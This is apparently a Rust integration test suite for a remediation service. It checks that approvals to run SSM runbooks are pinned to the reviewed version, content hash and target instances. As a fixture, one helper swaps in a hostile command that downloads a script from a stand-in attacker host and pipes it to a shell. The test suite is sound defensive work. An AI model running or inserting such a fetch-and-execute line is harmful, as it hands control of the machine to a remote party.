//! Issue 16, H2: an approval approves exactly what was reviewed.
//!
//! The attack: ask for approval of a harmless runbook, then change its
//! commands before (or while) it is approved, so the approval runs something
//! nobody reviewed. The request now pins the runbook's version and content
//! hash; approving a changed runbook is 409, and a grant that raced the
//! change is refused by the dispatcher with a recorded reason, nothing sent
//! to SSM.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::sync::Arc;

use alertledger_domain::approval::{Approval, ApprovalCommand};
use alertledger_domain::values::{Actor, Role, UserId};
use alertledger_domain::DomainServices;
use alertledger_eventstore::log::LogSignal;
use alertledger_eventstore::store::{AggregateStore, EventMetadata};
use alertledger_ssm::scripted::ScriptedSsm;
use alertledger_ssm::SsmService;
use serde_json::{json, Value};
use support::remediation::{
    alert_and_incident, approval_until, define_runbook, execution_until, incident_until, post,
    prepare_tenant, quick_background, INSTANCE,
};
use support::{TestApp, TestTenant};

async fn ready(slug: &str) -> (Arc<ScriptedSsm>, TestApp, TestTenant) {
    let ssm = Arc::new(ScriptedSsm::new());
    let app =
        TestApp::spawn_with_background(quick_background(ssm.clone() as Arc<dyn SsmService>)).await;
    let tenant = app.create_tenant(slug).await;
    prepare_tenant(&app, &tenant).await;
    (ssm, app, tenant)
}

/// Asks (as a technician) to run a medium-risk runbook on a new incident;
/// the runbook id, incident id and the 202 answer.
async fn request_approval(app: &TestApp, tenant: &TestTenant) -> (String, String, Value) {
    let runbook = define_runbook(app, tenant, "medium", false).await;
    let runbook_id = runbook["runbook_id"].as_str().unwrap().to_owned();
    assert_eq!(runbook["version"], 1);
    let incident = alert_and_incident(app, tenant).await;
    let technician = app.token(Role::Technician, &[tenant.id]);
    let (status, request) = post(
        app,
        &format!("/api/v1/runbooks/{runbook_id}/execute"),
        &technician,
        json!({ "incident_id": incident }),
    )
    .await;
    assert_eq!(status, 202, "{request}");
    (runbook_id, incident, request)
}

/// Replaces the runbook's commands as a tenant admin (allowed: medium risk).
async fn change_commands(app: &TestApp, tenant: &TestTenant, runbook_id: &str) {
    let admin = app.token(Role::TenantAdmin, &[tenant.id]);
    let response = app
        .client
        .put(app.url(&format!("/api/v1/runbooks/{runbook_id}")))
        .bearer_auth(&admin)
        .json(&json!({
            "name": "Restart the busy service (medium)",
            "signature": "HighCPU",
            "risk": "medium",
            "commands": ["curl -s https://evil.example/x | sh"],
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["version"], 2, "{body}");
}

#[tokio::test]
async fn the_approval_view_shows_the_pinned_version_hash_and_content() {
    let (_ssm, app, tenant) = ready("pin-view").await;
    let (_, _, request) = request_approval(&app, &tenant).await;
    assert_eq!(request["runbook_version"], 1);
    let sha = request["runbook_content_sha256"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(sha.len(), 64);

    let admin = app.token(Role::TenantAdmin, &[tenant.id]);
    let id = request["approval_id"].as_str().unwrap();
    // The list follows the log: wait for the row, then read it alone.
    approval_until(&app, &tenant, |row| row["approval_id"] == id).await;
    let shown = app
        .get_until(&format!("/api/v1/approvals/{id}"), &admin, |_| true)
        .await;
    assert_eq!(shown["runbook_version"], 1, "{shown}");
    assert_eq!(shown["runbook_content_sha256"], sha.as_str());
    assert_eq!(
        shown["runbook_content"],
        json!({
            "document": "AWS-RunShellScript",
            "commands": ["systemctl restart app"],
            "parameters": {},
            "risk": "medium",
            "instance_ids": [INSTANCE],
        })
    );
    let listed = approval_until(&app, &tenant, |row| row["approval_id"] == id).await;
    assert_eq!(listed["runbook_content_sha256"], sha.as_str());
}

#[tokio::test]
async fn approving_a_runbook_changed_since_the_request_is_refused_and_nothing_runs() {
    let (ssm, app, tenant) = ready("pin-approve").await;
    let (runbook_id, incident, request) = request_approval(&app, &tenant).await;
    change_commands(&app, &tenant, &runbook_id).await;

    let admin = app.token(Role::TenantAdmin, &[tenant.id]);
    let id = request["approval_id"].as_str().unwrap();
    let (status, body) = post(
        &app,
        &format!("/api/v1/approvals/{id}/approve"),
        &admin,
        json!({}),
    )
    .await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["error"]["code"], "runbook_changed");
    assert_eq!(
        body["error"]["message"],
        "runbook changed since approval was requested: version 1 → 2 (commands changed)"
    );
    let shown = approval_until(&app, &tenant, |row| row["approval_id"] == id).await;
    assert_eq!(shown["status"], "pending");
    // Rejecting it stays possible.
    let (status, _) = post(
        &app,
        &format!("/api/v1/approvals/{id}/reject"),
        &admin,
        json!({}),
    )
    .await;
    assert_eq!(status, 200);
    let detail = incident_until(&app, &tenant, &incident, |_| true).await;
    assert_eq!(detail["status"], "new");
    assert_eq!(ssm.send_calls(), 0);
}

#[tokio::test]
async fn a_grant_that_raced_a_runbook_change_is_refused_by_the_dispatcher_with_its_reason() {
    let (ssm, app, tenant) = ready("pin-race").await;
    let (runbook_id, incident, request) = request_approval(&app, &tenant).await;
    let approval_id = request["approval_id"].as_str().unwrap().to_owned();

    // The grant as it was recorded when the runbook still matched the pin
    // (the API checked it then); the change lands before the dispatcher
    // turns the grant into a run.
    let approvals: AggregateStore<Approval> = AggregateStore::new(
        app.db.pool().clone(),
        DomainServices::system(),
        LogSignal::local(),
    );
    let pinned = approvals
        .load(&approval_id)
        .await
        .unwrap()
        .pin()
        .cloned()
        .unwrap();
    change_commands(&app, &tenant, &runbook_id).await;
    let approver = Actor::new(UserId::parse("bob").unwrap(), "Bob", Role::TenantAdmin);
    approvals
        .execute(
            &approval_id,
            ApprovalCommand::GrantApproval {
                approver,
                reason: None,
                runbook_now: pinned,
            },
            EventMetadata::by("user:bob"),
        )
        .await
        .unwrap();

    let execution = execution_until(&app, &tenant, |row| row["status"] == "refused").await;
    assert_eq!(execution["approval_id"], approval_id.as_str());
    assert_eq!(
        execution["failure_reason"],
        "runbook changed since approval was requested: version 1 → 2 (commands changed)"
    );
    let detail = incident_until(&app, &tenant, &incident, |body| {
        body["status"] == "escalated"
    })
    .await;
    let timeline = detail["timeline"].to_string();
    assert!(timeline.contains("ExecutionRefused"), "{timeline}");
    assert!(!timeline.contains("ExecutionRequested"), "{timeline}");
    assert_eq!(app.stored("ExecutionRequested").await, 0);
    assert_eq!(app.stored("ExecutionRefused").await, 1);
    assert_eq!(ssm.send_calls(), 0, "a changed runbook reached SSM");
}

#[tokio::test]
async fn instances_added_after_the_request_are_not_covered_by_the_approval() {
    let (ssm, app, tenant) = ready("pin-targets").await;
    let (_, _, request) = request_approval(&app, &tenant).await;
    let admin = app.token(Role::TenantAdmin, &[tenant.id]);
    let response = app
        .client
        .put(app.url(&format!("/api/v1/tenants/{}/assets/web01", tenant.id)))
        .bearer_auth(&admin)
        .json(&json!({ "critical": false, "instance_ids": [INSTANCE, "i-0fedcba9876543210"] }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let id = request["approval_id"].as_str().unwrap();
    let (status, body) = post(
        &app,
        &format!("/api/v1/approvals/{id}/approve"),
        &admin,
        json!({}),
    )
    .await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(
        body["error"]["message"],
        "target instances changed since approval was requested (runbook version 1)"
    );
    assert_eq!(ssm.send_calls(), 0);
}
